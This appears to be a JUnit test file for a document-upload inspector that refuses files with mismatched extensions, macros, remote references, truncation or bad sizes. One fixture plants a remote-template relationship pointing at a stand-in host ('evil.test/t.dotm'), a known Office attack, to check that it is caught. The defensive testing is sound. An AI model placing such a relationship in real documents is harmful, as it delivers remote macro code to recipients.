package ru.vitok.file.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.ResourceBundle;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import ru.vitok.file.FileKind;
import ru.vitok.file.Samples;

class InspectionTest {

    @ParameterizedTest
    @EnumSource(FileKind.class)
    void anHonestFileOfEveryKindPasses(FileKind kind) {
        var end = kind == FileKind.JPEG ? "JPG" : kind.name().toLowerCase(Locale.ROOT);

        assertThat(Inspection.kind("файл." + end, Samples.of(kind))).isEqualTo(kind);
    }

    @ParameterizedTest
    @CsvSource({
        "урок.svg, SVG",
        "урок.docm, MACROS",
        "урок.doc, OLD_FORMAT",
        "урок.exe, KIND",
        "урок, KIND",
        "урок.pdf, MISMATCH",
        "урок.xlsx, MISMATCH",
        "урок.odt, MISMATCH"
    })
    void aDocumentUnderAnotherNameIsRefused(String name, Fault fault) {
        assertThat(refused(name, Samples.docx("слова"))).isEqualTo(fault);
    }

    /** Office finds the parts of a document whatever the case of their names. */
    @Test
    void aPartIsLookedAtWhateverTheCaseOfItsName() {
        var parts = Samples.docxParts("слова");
        parts.put(
                "word/_rels/settings.xml.RELS",
                "<R><Relationship Type='http://x/attachedTemplate' Target='http://evil.test/t.dotm' TargetMode='External'/></R>"
                        .getBytes(StandardCharsets.UTF_8));

        assertThat(refused("урок.docx", Samples.zip(parts))).isEqualTo(Fault.REMOTE);
    }

    @Test
    void anEmptyFileAndATooLargeOneAreRefused() {
        assertThat(refused("a.pdf", new byte[0])).isEqualTo(Fault.EMPTY);
        assertThat(refused("a.pdf", new byte[Inspection.LARGEST + 1])).isEqualTo(Fault.TOO_LARGE);
    }

    @Test
    void aHalfOfAFileIsRefused() {
        for (var kind : FileKind.values()) {
            var whole = Samples.of(kind);
            var half = Arrays.copyOf(whole, whole.length * 2 / 3);

            assertThatExceptionOfType(UnfitFile.class)
                    .as(kind.name())
                    .isThrownBy(() -> Inspection.kind("a." + kind.name().replace("JPEG", "JPG"), half));
        }
    }

    @Test
    void everyFaultHasItsSentence() {
        var sentences = ResourceBundle.getBundle("messages/file", Locale.ROOT);

        assertThat(Arrays.stream(Fault.values()).map(Fault::key)).allMatch(sentences::containsKey);
    }

    private static Fault refused(String name, byte[] bytes) {
        try {
            Inspection.kind(name, bytes);
            throw new AssertionError(name + " passed");
        } catch (UnfitFile unfit) {
            return unfit.fault();
        }
    }
}
